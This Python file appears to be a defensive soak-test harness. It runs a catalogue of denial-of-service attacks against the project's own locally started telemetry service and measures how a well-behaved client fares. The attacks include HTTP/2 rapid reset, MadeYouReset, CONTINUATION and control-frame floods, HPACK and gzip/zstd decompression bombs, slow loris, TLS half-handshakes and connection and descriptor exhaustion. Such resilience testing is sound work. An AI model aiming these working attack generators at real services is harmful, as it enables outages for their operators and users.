# SPDX-License-Identifier: Apache-2.0
"""Attacks on a running service, with a good client beside each.

    ./dev soak attacks [--frames 1000000] [--connections 10000] [--only NAME ...]

For each: what was sent, how long it took, the service's CPU seconds and memory,
the good client's p50 and p99 before (quiet) and during the attack, and what the
service answered.  An attacker whose connection is ended makes a new one and goes
on.  Attackers run at the lowest priority, as they would be on machines of their
own.
"""

import argparse
import http.client
import os
import resource
import selectors
import socket
import ssl
import struct
import tempfile
import time
from collections import Counter
from pathlib import Path

from attack_measure import Good, Meter, harness, quantile
import attack_frames as wire
from attack_frames import Raw, frame
from certificates import Authority

BLOCK = 20000  # frames that are made at once
MEBIBYTE = 1 << 20


class Run:
    """One attack under way: how much, on what, and what came of it."""

    def __init__(self, service, frames, connections, authority=None):
        self.service, self.frames, self.connections = service, frames, connections
        self.authority = authority
        self.port = service.port
        self.sent = self.opened = 0
        self.seen = Counter()
        self.notes = []

    def pour(self, make, per_connection=None, hello=wire.HELLO, prepare=None, count=None):
        """Sends frames until all are sent, connection after connection.

        MAKE gives (bytes, frames) for a new connection's PIECEth piece."""
        left = count or self.frames
        pieces = {}
        while left > 0:
            raw = Raw(self.port, hello)
            self.opened += 1
            if prepare:
                raw.send(prepare)
            piece = here = 0
            while left > 0 and (per_connection is None or here < per_connection):
                if piece not in pieces:
                    pieces[piece] = make(piece)
                data, frames = pieces[piece]
                piece = 0 if getattr(make, "alike", False) else piece + 1
                going = raw.send(data)
                left -= frames
                here += frames
                self.sent += frames
                if not going or not raw.take():
                    break
            if per_connection is None:
                raw.drain(5)
            self.take(raw)

    def take(self, raw):
        self.seen.update(raw.seen or ["closed" if raw.over else "left"])
        raw.close()


def same(data, frames):
    """A maker whose pieces are all alike."""
    def piece(_number):
        return data, frames
    piece.alike = True
    return piece


def repeat(one, count=BLOCK):
    return same(one * count, count)


# --- HTTP/2 frames ---------------------------------------------------------------

def with_streams(per_stream, one):
    """A maker of pieces that begin new streams."""
    def piece(number):
        streams = BLOCK // per_stream
        return wire.streams(number * streams, streams, one), BLOCK
    return piece


def rapid_reset(run):
    """Begins a call and cancels it, for ever."""
    run.pour(with_streams(2, lambda s: frame(wire.HEADERS, wire.END_HEADERS, s, wire.HEAD)
                          + frame(wire.RST_STREAM, 0, s, struct.pack(">I", 8))))


def rapid_reset_within(run):
    """The same, but a new connection just before the old one would be ended."""
    data = wire.streams(0, 480, lambda s: frame(wire.HEADERS, wire.END_HEADERS, s, wire.HEAD)
                        + frame(wire.RST_STREAM, 0, s, struct.pack(">I", 8)))
    run.pour(same(data, 960), per_connection=960, count=min(run.frames, run.connections * 960))


def made_you_reset(run):
    """Has the service cancel, by a window update of nothing (CVE-2025-8671)."""
    run.pour(with_streams(2, lambda s: frame(wire.HEADERS, wire.END_HEADERS, s, wire.HEAD)
                          + frame(wire.WINDOW_UPDATE, 0, s, bytes(4))))


def continuation_flood(run):
    run.pour(repeat(frame(wire.CONTINUATION, 0, 1, wire.literal("a", "b"))),
             prepare=frame(wire.HEADERS, 0, 1, wire.HEAD))


def empty_continuations(run):
    run.pour(repeat(frame(wire.CONTINUATION, 0, 1)), prepare=frame(wire.HEADERS, 0, 1, wire.HEAD))


def hpack_bomb(run):
    """A field of 4000 bytes in the table, then 16,000 references to it a frame."""
    name = b"\x40\x01x\x7f" + bytes([(3900 - 127) & 0x7F | 0x80, (3900 - 127) >> 7]) + b"v" * 3900
    first = frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, 1, wire.HEAD + name)
    bomb = wire.HEAD + b"\xbe" * 16000

    def piece(number):
        return wire.streams(1 + number * 20, 20,
                            lambda s: frame(wire.HEADERS, wire.END_HEADERS, s, bomb)), 20
    run.pour(piece, prepare=first, count=max(20, run.frames // 1000))


def one_byte_data(run):
    """100 calls whose bodies come a byte at a time."""
    opened = wire.streams(0, 100, lambda s: frame(wire.HEADERS, wire.END_HEADERS, s, wire.HEAD)
                          + frame(wire.DATA, 0, s, struct.pack(">BI", 0, 15000)))
    block = wire.streams(0, 100, lambda s: frame(wire.DATA, 0, s, b"x")) * (BLOCK // 100)
    run.pour(same(block, BLOCK), prepare=opened)


def empty_data(run):
    run.pour(repeat(frame(wire.DATA, 0, 1)),
             prepare=frame(wire.HEADERS, wire.END_HEADERS, 1, wire.HEAD))


def settings_flood(run):
    run.pour(repeat(frame(wire.SETTINGS, 0, 0)))


def ping_flood(run):
    run.pour(repeat(frame(wire.PING, 0, 0, b"12345678")))


def priority_flood(run):
    run.pour(repeat(frame(wire.PRIORITY, 0, 3, bytes(4) + b"\x10")))


def window_flood(run):
    run.pour(repeat(frame(wire.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))))


def unread_pings(run):
    """PINGs whose answers are never read, on 20 connections at once."""
    peers = [Raw(run.port) for _ in range(20)]
    block = frame(wire.PING, 0, 0, b"12345678") * 500
    end = time.monotonic() + 10
    for raw in peers:
        raw.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.socket.setblocking(False)
    while run.sent < run.frames and time.monotonic() < end:
        moved = 0
        for raw in peers:
            try:
                moved += raw.socket.send(block)
            except BlockingIOError:
                continue
            except OSError:
                raw.over = True
        run.sent += moved // 17
        if moved == 0:
            time.sleep(0.05)
    run.opened += len(peers)
    run.seen["closed" if all(r.over for r in peers) else "not read on"] += len(peers)
    for raw in peers:
        raw.close()


# --- bodies ------------------------------------------------------------------------

def unary(run, body, path, compressed, count):
    """One gRPC call after the other with BODY, as flow control allows."""
    data = wire.message(body, compressed is not None)
    more = wire.literal("grpc-encoding", compressed) if compressed else b""
    raw, stream = Raw(run.port), 1
    run.opened += 1
    for _ in range(count):
        raw.windows[stream] = raw.windows.get(stream, 0) + raw.initial
        raw.send(frame(wire.HEADERS, wire.END_HEADERS, stream, wire.head(path, more)))
        at, ended = 0, raw.ended
        end = time.monotonic() + 30
        while raw.ended == ended and not raw.over and time.monotonic() < end:
            part = min(16384, len(data) - at, raw.windows.get(stream, 0))
            if part <= 0 or at == len(data):
                raw.take(0.5)
                continue
            last = wire.END_STREAM if at + part == len(data) else 0
            raw.send(frame(wire.DATA, last, stream, data[at:at + part]))
            raw.windows[stream] -= part
            at += part
        run.sent += 1
        stream += 2
    run.take(raw)


def posted(run, body, path, kind, encoding, count):
    for _ in range(count):
        connection = http.client.HTTPConnection("127.0.0.1", run.port, timeout=60)
        fields = {"content-type": kind} | ({"content-encoding": encoding} if encoding else {})
        run.opened += 1
        run.sent += 1
        try:
            connection.request("POST", path, body, fields)
            run.seen[f"HTTP {connection.getresponse().status}"] += 1
        except (OSError, http.client.HTTPException):
            run.seen["closed"] += 1
        connection.close()


def bombs(run, encoding, bomb):
    """Bodies that become 65 MiB (too much) and 60 MiB (of zeros)."""
    for size in (65 * MEBIBYTE, 60 * MEBIBYTE):
        body = bomb(size)
        run.notes.append(f"{size / len(body):.0f}:1")
        count = max(1, run.frames // 50000)
        unary(run, body, wire.TRACES, encoding, count)
        posted(run, body, "/v1/traces", "application/x-protobuf", encoding, count)


def gzip_bombs(run):
    bombs(run, "gzip", wire.gzip_bomb)


def zstd_bombs(run):
    bombs(run, "zstd", wire.zstd_bomb)


def deep_nesting(run):
    """AnyValues inside each other, to a million levels, as protobuf and as JSON."""
    for depth in (64, 65, 1000, max(2000, run.frames)):
        unary(run, wire.nested_logs(depth), wire.LOGS, None, 3)
        posted(run, wire.nested_json(depth), "/v1/logs", "application/json", None, 3)


# --- fairness ------------------------------------------------------------------------

def large_bodies(run):
    """One connection that always has 100 calls of 4 MiB under way."""
    size = 4 * MEBIBYTE
    part = bytes(16384)
    raw, next_stream, left = Raw(run.port), 1, {}
    run.opened = 1
    end = time.monotonic() + max(3.0, run.frames / 100000)
    while time.monotonic() < end and not raw.over:
        while next_stream // 2 - raw.ended < 100:
            raw.send(frame(wire.HEADERS, wire.END_HEADERS, next_stream, wire.HEAD)
                     + frame(wire.DATA, 0, next_stream, struct.pack(">BI", 0, size)))
            raw.windows[next_stream] = raw.windows.get(next_stream, 0) + raw.initial - 5
            left[next_stream] = size
            next_stream += 2
        moved = False
        for stream in list(left):
            if stream in raw.done:
                del left[stream]
                continue
            while left[stream] > 0 and raw.windows[stream] > 0:
                n = min(len(part), left[stream], raw.windows[stream])
                last = wire.END_STREAM if n == left[stream] else 0
                raw.send(frame(wire.DATA, last, stream, part[:n]))
                raw.windows[stream] -= n
                left[stream] -= n
                run.sent += 1
                moved = True
            if left[stream] == 0:
                del left[stream]
        raw.take(0 if moved else 0.02)
    run.notes.append(f"{next_stream // 2} calls")
    run.take(raw)


def crawling_bodies(run):
    """Calls that announce 64 MiB each and bring 2 KiB a second."""
    peers = [Raw(run.port) for _ in range(min(20, run.connections))]
    run.opened = len(peers)
    for raw in peers:
        raw.send(wire.streams(0, 50, lambda s: frame(wire.HEADERS, wire.END_HEADERS, s, wire.HEAD)
                              + frame(wire.DATA, 0, s, struct.pack(">BI", 0, 64 * MEBIBYTE))))
    end = time.monotonic() + max(5.0, run.frames / 50000)
    while time.monotonic() < end:
        for raw in peers:
            raw.send(wire.streams(0, 50, lambda s: frame(wire.DATA, 0, s, bytes(2048))))
            raw.take()
        run.sent += 50 * len(peers)
        time.sleep(1)
    for raw in peers:
        run.seen["call ended"] += raw.ended
        run.take(raw)


def tiny_requests(run):
    """100 calls of an empty request, again and again on one connection."""
    raw, first = Raw(run.port), 0
    run.opened = 1
    empty = wire.message(b"")
    while run.sent < run.frames // 2 and not raw.over:
        raw.send(wire.streams(first, 100,
                              lambda s: frame(wire.HEADERS, wire.END_HEADERS, s, wire.HEAD)
                              + frame(wire.DATA, wire.END_STREAM, s, empty)))
        run.sent += 200
        first += 100
        while raw.ended < first and raw.take(1.0):
            pass
    run.take(raw)


def pipelined_requests(run):
    """HTTP/1.1 requests without end on one connection, nothing read but in bulk."""
    one = (b"POST /v1/traces HTTP/1.1\r\nHost: t\r\nContent-Type: application/x-protobuf\r\n"
           b"Content-Length: 0\r\n\r\n")
    raw = Raw(run.port, hello=None)
    run.opened = 1
    raw.socket.setblocking(False)
    block, at, answers = one * 5000, 0, 0
    end = time.monotonic() + 60
    while run.sent < run.frames // 4 and time.monotonic() < end:
        try:
            at += raw.socket.send(block[at:])
        except BlockingIOError:
            time.sleep(0.001)
        if at == len(block):
            run.sent += 5000
            at = 0
        try:
            answers += raw.socket.recv(1 << 20).count(b" 200 OK\r")
        except BlockingIOError:
            pass
    raw.socket.settimeout(20)
    while answers < run.sent * 0.99:  # what is still on its way
        data = raw.socket.recv(1 << 20)
        answers += data.count(b" 200 OK\r")
        if not data:
            break
    run.seen["HTTP 200"] = answers
    raw.close()


# --- connections ------------------------------------------------------------------------

def open_many(run, count, hello, source="127.0.0.2"):
    """COUNT sockets that have said HELLO (an index gives one of several)."""
    peers = []
    for i in range(count):
        peer = socket.socket()
        peer.bind((source, 0))
        peer.setblocking(False)
        peer.connect_ex(("127.0.0.1", run.port))
        peers.append(peer)
        if i % 500 == 499:
            time.sleep(0.02)
    time.sleep(0.5)
    for i, peer in enumerate(peers):
        try:
            peer.send(hello[i % len(hello)])
        except OSError:
            pass
    run.opened += count
    return peers


LORIS = [b"", b"P", wire.PREFACE, b"POST /v1/traces HTTP/1.1\r\nHost: t\r\n",
         b"POST /v1/traces HTTP/1.1\r\nHost: t\r\nContent-Type: application/x-protobuf\r\n"
         b"Content-Length: 100000\r\n\r\n",
         b"POST /v1/traces HTTP/1.1\r\nHost: t\r\nContent-Type: application/x-protobuf\r\n"
         b"Transfer-Encoding: chunked\r\n\r\n",
         wire.HELLO + frame(wire.HEADERS, 0, 1, wire.HEAD),
         wire.HELLO + frame(wire.HEADERS, wire.END_HEADERS, 1, wire.HEAD)
         + frame(wire.DATA, 0, 1, struct.pack(">BI", 0, 10000)),
         wire.HELLO + frame(wire.HEADERS, wire.END_HEADERS, 1, wire.HEAD)
         + frame(wire.DATA, 0, 1, struct.pack(">BI", 0, 1000000))]
DRIPS = [b"", b"", b"", b"x", b"\0", b"1\r\n\0\r\n", b"", frame(wire.DATA, 0, 1, b"x"),
         frame(wire.DATA, 0, 1, b"x")]


def has_trailers(data):
    """True when DATA, whole frames, ends a call."""
    at = 0
    while at + 9 <= len(data) and data[:5] != b"HTTP/":
        if data[at + 3] == wire.HEADERS and data[at + 4] & wire.END_STREAM:
            return True
        at += 9 + (data[at] << 16 | data[at + 1] << 8 | data[at + 2])
    return False


def hold(run, peers, drips, patience=45):
    """Sends a byte a second on each until all have been hung up on."""
    watch = selectors.DefaultSelector()
    kind = {}
    for i, peer in enumerate(peers):
        kind[peer] = i % len(drips)
        watch.register(peer, selectors.EVENT_READ)
    began = last = time.monotonic()
    ends = {}
    while kind and time.monotonic() - began < patience:
        for key, _ in watch.select(0.2):
            peer = key.fileobj
            try:
                data = peer.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data[:12] == b"HTTP/1.1 408":
                run.seen["HTTP 408"] += 1
            if has_trailers(data):  # the call is over, and the rest may idle
                run.seen["call ended"] += 1
                data = b""
            if not data:
                watch.unregister(peer)
                ends[kind.pop(peer)] = time.monotonic() - began
                peer.close()
                run.seen["closed"] += 1
        if time.monotonic() - last >= 1:
            last = time.monotonic()
            for peer, number in list(kind.items()):
                if drips[number]:
                    try:
                        peer.send(drips[number])
                        run.sent += 1
                    except OSError:
                        pass
    run.seen["still open"] = len(kind)
    if kind:
        run.notes.append(f"still open: {dict(Counter(kind.values()))}")
    run.notes.append(f"last one ended after {max(ends.values(), default=0):.1f} s")
    for peer in kind:
        peer.close()


def slow_loris(run):
    """Connections that say a byte a second, or nothing, in every state."""
    hold(run, open_many(run, run.connections - 20, LORIS), DRIPS)


def idle_connections(run):
    """Greeted connections that do nothing: what they cost in memory."""
    before = run.service.memory()
    peers = open_many(run, run.connections - 20, [wire.HELLO])
    time.sleep(3)
    run.notes.append(f"{(run.service.memory() - before) / len(peers):.1f} KiB each")
    for peer in peers:
        peer.close()


def tls_hello():
    """A ClientHello as OpenSSL makes it."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def tls_half_handshakes(run):
    """TLS that stops: before, inside and behind the ClientHello."""
    hello = tls_hello()
    hold(run, open_many(run, run.connections - 20, [hello, hello[:100], hello[:3]]),
         [b"", b"\0", b""])


def tls_idle_connections(run):
    """Handshaken connections that do nothing: what they cost in memory."""
    context = ssl.create_default_context(cafile=str(run.authority.file))
    context.set_alpn_protocols(["h2"])
    count = min(run.connections - 20, max(50, run.connections // 5))
    before = run.service.memory()
    peers = []
    for _ in range(count):
        plain = socket.create_connection(("127.0.0.1", run.port), timeout=20)
        peer = context.wrap_socket(plain, server_hostname="localhost")
        peer.sendall(wire.HELLO)
        peers.append(peer)
    time.sleep(3)
    run.opened = count
    run.notes.append(f"{(run.service.memory() - before) / count:.1f} KiB each")
    for peer in peers:
        peer.close()


def flood_connections(run, seconds):
    """Opens and forgets connections as fast as one process can."""
    end, held = time.monotonic() + seconds, []
    while time.monotonic() < end:
        peer = socket.socket()
        peer.setblocking(False)
        try:
            peer.bind((f"127.0.0.{2 + run.opened // 20000 % 200}", 0))
            peer.connect_ex(("127.0.0.1", run.port))
        except OSError:
            peer.close()
            time.sleep(0.001)
            continue
        run.opened += 1
        held.append(peer)
        if len(held) > 2000:
            for old in held[:1000]:
                old.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                old.close()
            del held[:1000]
    for peer in held:
        peer.close()


def accept_again(run):
    """A new connection is served after the flood."""
    began = time.monotonic()
    raw = None
    while time.monotonic() - began < 30:
        raw = Raw(run.port, timeout=5)
        raw.send(frame(wire.HEADERS, wire.END_HEADERS, 1, wire.HEAD)
                 + frame(wire.DATA, wire.END_STREAM, 1, wire.message(b"")))
        while not raw.over and raw.ended == 0 and time.monotonic() - began < 30:
            raw.take(0.5)
        raw.close()
        if raw.ended:
            break
        time.sleep(0.1)
    run.notes.append(f"served again after {time.monotonic() - began:.2f} s"
                     if raw.ended else "NOT served again")


def connection_flood(run):
    """More connections than are taken."""
    flood_connections(run, max(2.0, run.frames / 100000))
    accept_again(run)


def descriptors_gone(run):
    """The same while the process may open no further file."""
    used = len(os.listdir(f"/proc/{run.service.pid}/fd"))
    old = resource.prlimit(run.service.pid, resource.RLIMIT_NOFILE)
    resource.prlimit(run.service.pid, resource.RLIMIT_NOFILE, (used + 20, old[1]))
    flood_connections(run, max(2.0, run.frames / 100000))
    resource.prlimit(run.service.pid, resource.RLIMIT_NOFILE, old)
    accept_again(run)


ATTACKS = [rapid_reset, rapid_reset_within, made_you_reset, continuation_flood,
           empty_continuations, hpack_bomb, one_byte_data, empty_data, settings_flood, ping_flood,
           priority_flood, window_flood, unread_pings, gzip_bombs, zstd_bombs, deep_nesting,
           large_bodies, crawling_bodies, tiny_requests, pipelined_requests, idle_connections,
           slow_loris, connection_flood, descriptors_gone, tls_half_handshakes,
           tls_idle_connections]
LIMITED = {connection_flood: ["limits.connections=200"]}


def start(attack, directory, authority):
    """A service for ATTACK."""
    settings = list(LIMITED.get(attack, []))
    if attack.__name__.startswith("tls"):
        certificate, key = authority.issue()
        settings += [f"protocols.tls.cert_file={certificate}", f"protocols.tls.key_file={key}"]
    return harness.Service(directory, *settings)


def measure(attack, frames, connections, rate=30, quiet=5.0, least=5.0):
    """Runs ATTACK against a fresh service and gives one line of figures."""
    nice = os.nice(0)
    with tempfile.TemporaryDirectory() as folder:
        secure = attack.__name__.startswith("tls")
        authority = Authority(Path(folder) / "ca") if secure else None
        service = start(attack, Path(folder) / "out", authority)
        try:
            certificate = authority.file if secure else None
            good = Good(service, rate, certificate)
            time.sleep(quiet)
            control = good.end()
            time.sleep(0.5)
            good = Good(service, rate, certificate)
            run = Run(service, frames, connections, authority)
            if nice < 19 and os.geteuid() == 0:
                os.setpriority(os.PRIO_PROCESS, 0, 19)
            with Meter(service) as meter:
                attack(run)
                while time.monotonic() - meter.began < least:
                    attack(run)
                time.sleep(max(0.0, 1.0 - (time.monotonic() - meter.began)))
            os.setpriority(os.PRIO_PROCESS, 0, nice)
            seen = good.end()
            time.sleep(4)
            after = service.memory()
            alive = service.alive() and service.get("/readyz")[0] == 200
            metrics = service.get("/metrics")[1]
            code = service.stop()
        finally:
            service.kill()
    return {"name": attack.__name__, "sent": run.sent, "opened": run.opened,
            "seconds": meter.seconds, "cpu": meter.cpu, "before": meter.before,
            "peak": meter.peak, "after": after, "control": control, "good": seen,
            "seen": run.seen, "notes": run.notes, "alive": alive, "code": code,
            "metrics": metrics}


def line(result):
    quiet, good = result["control"]["took"], result["good"]["took"]
    seen = ", ".join(f"{count} x {what}" for what, count in result["seen"].most_common(4))
    return (f"{result['name']:<21}{result['sent']:>9}{result['opened']:>8}"
            f"{result['seconds']:>7.1f}{result['cpu']:>7.2f}"
            f"{result['before'] / 1024:>6.0f}{result['peak'] / 1024:>6.0f}"
            f"{result['after'] / 1024:>6.0f}"
            f"{quantile(quiet, .5):>7.1f}{quantile(quiet, .99):>7.1f}"
            f"{quantile(good, .5):>7.1f}{quantile(good, .99):>7.1f}"
            f"{result['good']['failed']:>5}  {seen}"
            f"{'; ' if result['notes'] else ''}{', '.join(result['notes'])}"
            f"{'' if result['alive'] and result['code'] == 0 else '  NOT WELL'}")


TITLE = (f"{'attack':<21}{'sent':>9}{'conns':>8}{'s':>7}{'cpu s':>7}{'MiB':>6}{'peak':>6}"
         f"{'after':>6}{'p50':>7}{'p99':>7}{'p50 !':>7}{'p99 !':>7}{'lost':>5}  answers")


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--frames", type=int, default=1000000)
    parser.add_argument("--connections", type=int, default=10000)
    parser.add_argument("--rate", type=float, default=30, help="requests/s of the good client")
    parser.add_argument("--only", nargs="*", default=None)
    arguments = parser.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    connections = min(arguments.connections, hard - 500)
    print(TITLE, flush=True)
    bad = 0
    for attack in ATTACKS:
        if arguments.only and attack.__name__ not in arguments.only:
            continue
        result = measure(attack, arguments.frames, connections, arguments.rate)
        print(line(result), flush=True)
        bad += not result["alive"] or result["code"] != 0 or result["good"]["failed"] > 0
    print(f"{'all' if not bad else f'NOT all ({bad})'} attacks left the service and the good "
          f"client well", flush=True)
    return 1 if bad else 0


if __name__ == "__main__":
    raise SystemExit(main())
